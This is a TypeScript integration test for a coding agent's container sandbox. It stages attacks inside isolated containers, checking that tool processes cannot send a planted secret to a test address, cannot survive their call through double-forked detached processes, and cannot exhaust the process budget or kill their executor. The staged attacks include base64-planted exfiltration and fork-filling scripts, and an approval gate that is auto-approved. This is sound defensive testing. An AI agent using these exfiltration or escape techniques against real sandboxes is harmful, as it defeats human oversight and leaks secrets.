// Issues 17 (tool processes, the process budget) and 18 (egress guarded by the OS), in the real image, in the
// three launch modes, with real Pi, the scripted model and the policy at `auto`. Each container has a network
// namespace of its own (NetworkMode "none"): its loopback, and a veth interface with 203.0.113.7 and
// 2001:db8::7, an address that exists only there, where a sink counts every connection and datagram and tcpdump
// every packet. The scripted model and the bridge are reached through unix sockets in a bind-mounted folder.
// A derived, test-only image adds iproute2, tcpdump, Python and the compiled probe (tests/image/fixtures).
// Attack code runs only inside these containers.
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import net from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { PassThrough } from "node:stream";
import { before, describe, it, type TestContext } from "node:test";
import type Docker from "dockerode";
import type { Isolation } from "../../bridge/protocol.ts";
import { ensureEngine } from "../../scripts/docker/ensure-engine.mjs";
import { ensureTestBase } from "../../scripts/docker/test-base.mjs";
import { allowOnce, deny, isApprovalDialog } from "../support/approval.ts";
import { type Frame, TestClient } from "../support/bridge.ts";
import { buildImage, docker, execIn, imageTag, repoRoot } from "./support/docker.ts";
import { hostModel, until } from "./support/harness.ts";

/**
 * SANDBOX_TEST_PRODUCT_IMAGE names an already built product image to test instead of this checkout's (to show
 * the test failing on an earlier build: its report has no egress protection, so that check is left out).
 */
const BASELINE = process.env.SANDBOX_TEST_PRODUCT_IMAGE;
const IMAGE = BASELINE ?? imageTag("chat-ui-agent-runtime:sandbox-test");
const PROBES = imageTag("chat-ui-agent-runtime:sandbox-probes");
const FIXTURES = path.join(import.meta.dirname, "fixtures");
/** Ports inside each container (its own network namespace). */
const PORTS = { bridge: 7700, model: 7701, sbx: 7702 };
const TARGET = { v4: "203.0.113.7", v6: "2001:db8::7" };
/** The container's pids budget: the tools get 300 (RLIMIT_NPROC), 100 stay for the others. */
const PIDS_LIMIT = 400;

before(
  async () => {
    await ensureEngine();
    const base = await ensureTestBase(docker);
    const product = BASELINE
      ? { ok: true, error: "", log: "" }
      : await buildImage(repoRoot, IMAGE, { buildargs: { NODE_IMAGE: base } });
    if (!product.ok)
      throw new Error(
        `the image failed to build: ${product.error}\n${product.log.split("\n").slice(-40).join("\n")}`,
      );
    const context = mkdtempSync(path.join(tmpdir(), "sandbox-probes-"));
    try {
      for (const file of ["egress-probe.c", "sandbox-infra.mjs", "sbx-standin.py"])
        copyFileSync(path.join(FIXTURES, file), path.join(context, file));
      writeFileSync(
        path.join(context, "Dockerfile"),
        [
          `FROM ${IMAGE}`,
          "USER root",
          "RUN apt-get update && apt-get install -y --no-install-recommends iproute2 tcpdump python3 gcc libc6-dev && rm -rf /var/lib/apt/lists/*",
          "COPY egress-probe.c sandbox-infra.mjs sbx-standin.py /opt/sandbox-test/",
          "RUN gcc -O1 -pthread -o /opt/sandbox-test/egress-probe /opt/sandbox-test/egress-probe.c && chmod 0755 /opt/sandbox-test/egress-probe && chmod 0644 /opt/sandbox-test/sandbox-infra.mjs /opt/sandbox-test/sbx-standin.py",
          "",
        ].join("\n"),
      );
      const probes = await buildImage(context, PROBES);
      if (!probes.ok)
        throw new Error(
          `the probe image failed to build: ${probes.error}\n${probes.log.split("\n").slice(-40).join("\n")}`,
        );
    } finally {
      rmSync(context, { recursive: true, force: true });
    }
  },
  { timeout: 40 * 60_000 },
);

interface Mode {
  name: string;
  /** docker run --user (undefined: the image's default user). */
  user: string | undefined;
  token: "env" | "file";
  /** The tools' uid and user name in this mode. */
  tools: { uid: number; user: string };
}

const MODES: Mode[] = [
  {
    name: "root, --agent-user agent, token in a --token-file",
    user: "root",
    token: "file",
    tools: { uid: 1000, user: "agent" },
  },
  {
    name: "the image's default user, started as sbx-server would (token in the environment)",
    user: undefined,
    token: "env",
    tools: { uid: 1000, user: "agent" },
  },
  { name: "--user 1000 (one uid)", user: "1000", token: "env", tools: { uid: 1000, user: "agent" } },
];

interface Running {
  container: Docker.Container;
  client: TestClient;
  relayDir: string;
  root: (command: string) => Promise<string>;
  as: (user: string, command: string) => Promise<string>;
  logs: () => Promise<string>;
  status: () => Promise<{ isolation: Isolation; pi: { pid: number } }>;
  /** A prompt whose one tool call the test waits for; returns the tool's text. */
  tool: (prompt: string, ms?: number) => Promise<{ text: string; isError: boolean }>;
  /** A prompt whose tool call runs on while the test goes on. */
  startTool: (prompt: string) => Promise<(ms?: number) => Promise<{ text: string; isError: boolean }>>;
  secret: string;
  /** The egress proxy's dialogs the person saw (each denied). */
  egressDialogs: Frame[];
}

/** Reads one line from a unix socket (the sbx-server stand-in's greeting). */
function greet(socketPath: string, ms = 5_000): Promise<string> {
  return new Promise((resolve) => {
    const socket = net.connect(socketPath);
    let text = "";
    const timer = setTimeout(() => {
      socket.destroy();
      resolve(`timeout: ${text}`);
    }, ms);
    socket.on("data", (chunk) => {
      text += chunk.toString("utf8");
    });
    socket.on("close", () => {
      clearTimeout(timer);
      resolve(text.trim());
    });
    socket.on("error", (error) => {
      clearTimeout(timer);
      resolve(`error: ${error.message}`);
    });
  });
}

async function start(t: TestContext, mode: Mode): Promise<Running> {
  const { seed, relayDir } = await hostModel(t, "sandbox-image", PORTS.model);
  const token = `bridge-token-${randomBytes(16).toString("hex")}`;
  const bridge = [
    "node /opt/chat-ui-agent/bridge.mjs",
    `--listen 127.0.0.1:${PORTS.bridge} --cwd /workspace --agent-user agent`,
    mode.token === "file" ? "--token-file /run/bridge-token" : "",
    "--provider scripted --model scripted-model --no-session",
  ].join(" ");
  // As sbx-server does: the bridge is a child of a process that stays (so the container outlives the bridge).
  const launcher =
    mode.token === "file"
      ? `umask 077; read -r T; printf %s "$T" > /run/bridge-token; ${bridge}; sleep 100000`
      : `read -r T; CHAT_UI_AGENT_BRIDGE_TOKEN="$T" ${bridge}; sleep 100000`;
  const container = await docker.createContainer({
    Image: PROBES,
    ...(mode.user ? { User: mode.user } : {}),
    Cmd: ["sh", "-c", launcher],
    Env: ["PI_CODING_AGENT_DIR=/pi-seed", "PI_OFFLINE=1", "AGENT_POLICY=auto"],
    OpenStdin: true,
    StdinOnce: false,
    AttachStdin: true,
    AttachStdout: true,
    AttachStderr: true,
    HostConfig: {
      NetworkMode: "none",
      // Only for root's setup through docker exec (the dummy interface, tcpdump); no tool runs as root.
      CapAdd: ["NET_ADMIN"],
      PidsLimit: PIDS_LIMIT,
      // IPv6 in the container's own namespace (Docker turns it off without an IPv6 network).
      Sysctls: { "net.ipv6.conf.all.disable_ipv6": "0", "net.ipv6.conf.default.disable_ipv6": "0" },
      Binds: [`${seed}:/pi-seed:ro`, `${relayDir}:/relay`],
    },
  });
  t.after(async () => {
    await container.remove({ force: true });
  });
  const io = await container.attach({ stream: true, stdin: true, stdout: true, stderr: true, hijack: true });
  docker.modem.demuxStream(io, new PassThrough(), new PassThrough());
  await container.start();
  const root = async (command: string) => {
    const result = await execIn(container, ["sh", "-c", command], "root");
    return result.stdout + result.stderr;
  };
  const as = async (user: string, command: string) => {
    const result = await execIn(container, ["sh", "-c", command], user);
    return result.stdout + result.stderr;
  };
  const secret = `secret-${randomBytes(12).toString("hex")}`;
  const infra = {
    secret,
    countsFile: "/run/sink-counts.json",
    modelPort: PORTS.model,
    modelSocket: "/relay/model.sock",
    bridgePort: PORTS.bridge,
    bridgeSocket: "/relay/bridge.sock",
    sbxPort: PORTS.sbx,
    sbxSocket: "/relay/sbx.sock",
    sink: { hosts: [TARGET.v4, TARGET.v6], tcpPorts: [80, 443, 22, 53], udpPorts: [53, 80] },
  };
  const setup = await root(
    [
      "ip link set lo up",
      // A veth pair (this kernel has no dummy interfaces): the test destination lives on veth0.
      "ip link add veth0 type veth peer name veth1",
      "ip link set veth0 up",
      "ip link set veth1 up",
      `ip addr add ${TARGET.v4}/24 dev veth0`,
      `ip -6 addr add ${TARGET.v6}/64 dev veth0 nodad`,
      `echo 'nameserver ${TARGET.v4}' > /etc/resolv.conf`,
      `printf '%s\\n' '${secret}' > /workspace/secret.txt && chmod 644 /workspace/secret.txt`,
      `nohup tcpdump --immediate-mode -i any -n -U -w /run/egress.pcap 'host ${TARGET.v4} or host ${TARGET.v6}' > /run/tcpdump.log 2>&1 &`,
      `nohup node /opt/sandbox-test/sandbox-infra.mjs '${JSON.stringify(infra)}' > /run/infra.log 2>&1 &`,
      "echo SETUP_DONE",
    ].join("\n"),
  );
  assert.match(setup, /SETUP_DONE/, setup);
  await until(async () => (await root("cat /run/infra.log")).includes("INFRA_READY"), 20_000, "the infra");
  await until(async () => (await root("cat /run/tcpdump.log")).includes("listening"), 20_000, "tcpdump");
  io.write(`${token}\n`);
  const logs = async () =>
    ((await container.logs({ stdout: true, stderr: true })) as unknown as Buffer).toString("utf8");
  await until(async () => (await logs()).includes('"msg":"listening"'), 90_000, "the bridge to listen");
  const { client } = await TestClient.connect(`ws+unix://${path.join(relayDir, "bridge.sock")}:/v1/rpc`, {
    token,
    clientId: "the-person",
  }).catch(async (error: Error) => {
    throw new Error(
      `${error.message}\ninfra: ${await root("cat /run/infra.log")}\nbridge: ${(await logs()).slice(-3000)}`,
    );
  });
  t.after(() => client.close());
  let n = 0;
  // The person says yes to every dialog of the gate: what is tested is what the OS stops once the gate was
  // talked past. The egress proxy's own dialogs (origin "bridge") are the one sanctioned way out: each is kept
  // (it must name its destination) and denied, so nothing may arrive however the script tries.
  const egressDialogs: Frame[] = [];
  void (async () => {
    let from = 0;
    for (;;) {
      const dialog = await client.waitFor(isApprovalDialog, 3_600_000, from).catch(() => undefined);
      if (!dialog) return;
      from = client.frames.indexOf(dialog) + 1;
      const egress = dialog.origin === "bridge";
      if (egress) egressDialogs.push(dialog);
      client.send({
        type: "extension_ui_response",
        id: dialog.id,
        commandId: `${egress ? "deny" : "yes"}-${++n}`,
        ...(egress ? deny(dialog) : allowOnce(dialog)),
      });
    }
  })();
  const status = async () => {
    const response = await client.request({ type: "bridge_status", id: `st-${++n}` });
    return response.data as Awaited<ReturnType<Running["status"]>>;
  };
  const result = (end: Frame) => {
    const r = end.result as { content: { text?: string }[] };
    return { text: r.content.map((c) => c.text ?? "").join(""), isError: end.isError === true };
  };
  const startTool = async (prompt: string) => {
    const from = client.frames.length;
    const response = await client.request({ type: "prompt", id: `p-${++n}`, message: prompt }, 30_000);
    assert.equal(response.success, true, JSON.stringify(response));
    return async (ms = 240_000) => {
      const end = await client.waitFor((f) => f.type === "tool_execution_end", ms, from);
      await client.waitFor((f) => f.type === "agent_settled", 60_000, from);
      return result(end);
    };
  };
  const tool = async (prompt: string, ms?: number) => (await startTool(prompt))(ms);
  const set = await client.request({ type: "set_policy", id: "set-auto", policy: "auto" });
  assert.equal(set.success, true, JSON.stringify(set));
  return { container, client, relayDir, root, as, logs, status, tool, startTool, secret, egressDialogs };
}

/** The agent writes a fixture file (base64, as it would hide it) and gets it decoded in the workspace. */
async function plant(r: Running, fixture: string, target: string): Promise<void> {
  const encoded = readFileSync(path.join(FIXTURES, fixture)).toString("base64");
  const wrote = await r.tool(`WRITE /workspace/${target}.b64 ${encoded}`);
  assert.equal(wrote.isError, false, wrote.text);
  const decoded = await r.tool(
    `BASH base64 -d /workspace/${target}.b64 > /workspace/${target} && echo DECODED`,
  );
  assert.match(decoded.text, /DECODED/, decoded.text);
}

/** Live processes in the container whose command line contains `needle` (read as root from outside). */
async function processes(r: Running, needle: string): Promise<string[]> {
  const out = await r.root(
    `for p in /proc/[0-9]*; do [ "\${p#/proc/}" = "$$" ] && continue; c=$(tr '\\0' ' ' < $p/cmdline 2>/dev/null); case "$c" in *${needle}*) echo "\${p#/proc/} $c";; esac; done`,
  );
  return out.split("\n").filter((line) => line.trim() !== "");
}

/** A command that leaves `sleep-<tag>` behind: own session, empty environment, double fork. */
const detach = (tag: string) =>
  `setsid env -i /bin/bash -c 'n=sleep; (exec -a "$n-${tag}" /bin/sleep 1000 &)'`;

describe("the tools' OS boundary in the image: processes and egress", { timeout: 60 * 60_000 }, () => {
  for (const mode of MODES) {
    it(`${mode.name}: loopback works, nothing reaches a non-loopback address, no tool outlives its call or the bridge, the budget holds`, async (t) => {
      const r = await start(t, mode);
      const iso = (await r.status()).isolation;
      t.diagnostic(`egress: ${JSON.stringify(iso.protections.egress)}`);
      t.diagnostic(`toolProcesses: ${JSON.stringify(iso.protections.toolProcesses)}`);
      if (!BASELINE) checkReport(iso);
      await checkBoundary(t, r, mode);
    });
  }
});

function checkReport(iso: Isolation): void {
  assert.equal(iso.protections.egress.active, true, iso.protections.egress.detail);
  assert.equal(iso.protections.egress.guard, "enforcing");
  assert.equal(iso.protections.egress.filter, "notify");
  assert.equal(iso.protections.toolProcesses.active, true, iso.protections.toolProcesses.detail);
  assert.equal(iso.protections.toolProcesses.containerPids, PIDS_LIMIT);
  assert.equal(iso.protections.toolProcesses.nproc, 300);
}

async function checkBoundary(t: TestContext, r: Running, mode: Mode): Promise<void> {
  const failed: string[] = [];
  // Against a baseline build every step runs and each failure is named; otherwise the first one fails the test.
  const step = async (name: string, run: () => Promise<void>) => {
    if (!BASELINE) return run();
    try {
      await run();
      t.diagnostic(`${name}: held`);
    } catch (error) {
      failed.push(name);
      t.diagnostic(`${name}: FAILED: ${(error as Error).message.split("\n")[0]?.slice(0, 300)}`);
    }
  };
  // 1. Everyday loopback work still runs: a local HTTP server and its clients, git over git://.
  await step("loopback", async () => {
    await plant(r, "../../support/fixtures/loopback-clients.mjs", "loopback.mjs");
    const loop = await r.tool(
      "BASH mkdir -p /workspace/loop && node /workspace/loopback.mjs /workspace/loop",
    );
    const line = loop.text.split("\n").find((l) => l.startsWith("{"));
    assert.ok(line, loop.text);
    const results = JSON.parse(line) as Record<string, string>;
    for (const client of ["fetch", "httpLocalhost", "socket", "curl", "devTcp", "python"])
      assert.equal(results[client], "pong", `${client}: ${line}`);
    assert.equal(results.gitSetup, "", line);
    assert.equal(results.gitClone, "", line);
    assert.equal(results.gitLog, "first", line);
  });

  // 2. Exfiltration by every route: nothing arrives.
  await step("exfiltration", async () => {
    await plant(r, "exfil.sh", "exfil.sh");
    const exfil = await r.tool("BASH bash /workspace/exfil.sh", 300_000);
    assert.match(exfil.text, /EXFIL_DONE/, exfil.text);
    for (const route of exfil.text.split("\n").filter((l) => l.startsWith("ROUTE:"))) t.diagnostic(route);
    const counts = JSON.parse(await r.root("cat /run/sink-counts.json")) as {
      connections: number;
      datagrams: number;
      bytes: number;
      secretSeen: boolean;
      by: Record<string, number>;
    };
    // Immediate mode writes each packet as it comes; a moment for the last ones.
    const packets = (await r.root("sleep 1; tcpdump -r /run/egress.pcap -n 2>/dev/null | wc -l")).trim();
    assert.deepEqual(
      {
        connections: counts.connections,
        datagrams: counts.datagrams,
        secretSeen: counts.secretSeen,
        packets,
      },
      { connections: 0, datagrams: 0, secretSeen: false, packets: "0" },
      `arrived: ${JSON.stringify(counts.by)}\n${exfil.text}`,
    );
    assert.match(exfil.text, /ROUTE:race:tries=\d+:reached=0/);
    // connect() on a file, a pipe and a closed number: refused for the test address (before the descriptor is
    // looked at), the kernel's answers for loopback, and each descriptor left as it was.
    assert.match(
      exfil.text,
      /ROUTE:notsock:far:file=EACCES:pipe=EACCES:closed=EACCES:near:file=ENOTSOCK:pipe=ENOTSOCK:closed=EBADF:file-kept=yes/,
    );
    // The routes that asked the egress proxy met a dialog naming where they were going, and the tool call that
    // asked (denied here). Some routes ask for loopback through the proxy (it would refuse an internal address
    // even if allowed); the sink's must be among them, since the proxy-aware clients tried it.
    const titles = r.egressDialogs.map((dialog) => String(dialog.title));
    for (const dialog of r.egressDialogs) {
      assert.match(String(dialog.title), /^Allow network access to \S+:\d+\?$/, JSON.stringify(dialog));
      assert.match(String(dialog.message), /asked by: /, JSON.stringify(dialog));
    }
    assert.ok(
      titles.some((title) => title.includes(TARGET.v4)),
      `no dialog named ${TARGET.v4}: ${JSON.stringify(titles)}`,
    );
    // Each refused connect was reported to the bridge with its pid, call and destination.
    const refused = (await r.logs())
      .split("\n")
      .filter((l) => l.includes("tool egress refused") && l.includes(TARGET.v4));
    assert.ok(refused.length > 0, "the bridge logged the refused connects");
    assert.match(refused[0] ?? "", /"call":"[^"]+"/);
    // The sink and the capture do count (the test can fail): root, outside the tools' boundary, reaches them.
    await r.root(
      `node -e "const s=require('net').connect(80,'${TARGET.v4}',()=>s.end('${r.secret}'))" ; sleep 0.5`,
    );
    const after = JSON.parse(await r.root("cat /run/sink-counts.json")) as {
      connections: number;
      secretSeen: boolean;
    };
    assert.equal(after.connections, 1);
    assert.equal(after.secretSeen, true);
    assert.notEqual(
      (await r.root("sleep 1; tcpdump -r /run/egress.pcap -n 2>/dev/null | wc -l")).trim(),
      "0",
    );
  });

  // 3. A detached process (own session, empty environment, double fork) ends with its call.
  await step("a detached process and its call", async () => {
    const left = await r.tool(`BASH ${detach("left")}; sleep 0.3; echo started`);
    assert.match(left.text, /started/);
    await until(
      async () => (await processes(r, "sleep-left")).length === 0,
      5_000,
      "the call's leftovers to end",
    );
  });

  // 4. The tools fill their budget and try to kill their executor; the others keep their reserve.
  await step("the budget and the executor", async () => {
    await r.as(
      mode.user === "1000" ? "1000" : "root",
      `nohup python3 /opt/sandbox-test/sbx-standin.py ${PORTS.sbx} > /tmp/sbx-standin.log 2>&1 &`,
    );
    await until(
      async () => (await r.root("cat /tmp/sbx-standin.log")).includes("SBX_READY"),
      10_000,
      "the sbx stand-in",
    );
    assert.equal(await greet(path.join(r.relayDir, "sbx.sock")), "sbx-ok");
    const eventsBefore = await r.root(
      "cat /sys/fs/cgroup/pids/pids.events /sys/fs/cgroup/pids.events 2>/dev/null",
    );
    await plant(r, "fill-budget.py", "fill.py");
    const filling = await r.startTool("BASH python3 /workspace/fill.py");
    await until(
      async () => (await r.root("cat /workspace/budget-filled 2>/dev/null")).trim() !== "",
      120_000,
      "the tools to fill their budget",
    );
    // sbx-server's stand-in still starts a thread for a new connection; the bridge still answers.
    assert.equal(await greet(path.join(r.relayDir, "sbx.sock")), "sbx-ok");
    assert.equal((await r.status()).isolation.protections.executorRouting.active, true);
    const eventsFull = await r.root(
      "cat /sys/fs/cgroup/pids/pids.events /sys/fs/cgroup/pids.events 2>/dev/null",
    );
    await r.root("touch /workspace/release");
    const filled = await filling();
    t.diagnostic(
      filled.text
        .split("\n")
        .filter((l) => /HELD|KILL_EXECUTOR/.test(l))
        .join("; "),
    );
    assert.match(filled.text, /KILL_EXECUTOR:blocked/, filled.text);
    assert.doesNotMatch(filled.text, /KILL_EXECUTOR:SUCCEEDED/);
    const held = Number(/HELD (\d+)/.exec(filled.text)?.[1]);
    assert.ok(held > 50 && held < 300, filled.text);
    // The container's limit was never reached: the cap stopped the tools first.
    assert.equal(eventsFull.trim(), eventsBefore.trim(), `pids.events: ${eventsBefore} -> ${eventsFull}`);
    // Pi and the executor carry on.
    assert.match((await r.tool("BASH echo still-here")).text, /still-here/);
    assert.equal(await greet(path.join(r.relayDir, "sbx.sock")), "sbx-ok");
  });

  // 5. The bridge dies (SIGKILL) while a call runs with a detached process: no tool process survives it.
  await step("the bridge killed", async () => {
    const running = await r.startTool(`BASH ${detach("orphan")}; exec -a sleep-call /bin/sleep 1000`);
    void running(600_000).catch(() => {});
    await until(
      async () => (await processes(r, "sleep-orphan")).length === 1,
      20_000,
      "the detached process",
    );
    const bridgePid = (
      await r.root(
        `for p in /proc/[0-9]*; do if tr '\\0' ' ' < $p/cmdline 2>/dev/null | grep -qE '^[^ ]*node /opt/chat-ui-agent/bridge.mjs'; then echo \${p#/proc/}; break; fi; done`,
      )
    ).trim();
    assert.ok(Number(bridgePid) > 1, bridgePid);
    await r.root(`kill -9 ${bridgePid}`);
    await until(
      async () =>
        (await processes(r, "sleep-orphan")).length === 0 &&
        (await processes(r, "sleep-call")).length === 0 &&
        (await processes(r, "tool-executor.mjs")).length === 0,
      10_000,
      "every tool process to end with the bridge",
    );
    if (mode.user !== "1000") {
      // In root modes the tools' uid is theirs alone: nothing of it is left.
      const agentProcesses = await r.root(
        `for p in /proc/[0-9]*; do [ "$(awk '/^Uid:/{print $2}' $p/status 2>/dev/null)" = ${mode.tools.uid} ] && echo "\${p#/proc/} $(tr '\\0' ' ' < $p/cmdline)"; done; true`,
      );
      assert.equal(agentProcesses.trim(), "", agentProcesses);
    }
  });
  assert.deepEqual(failed, [], `failed: ${failed.join(", ")}`);
}
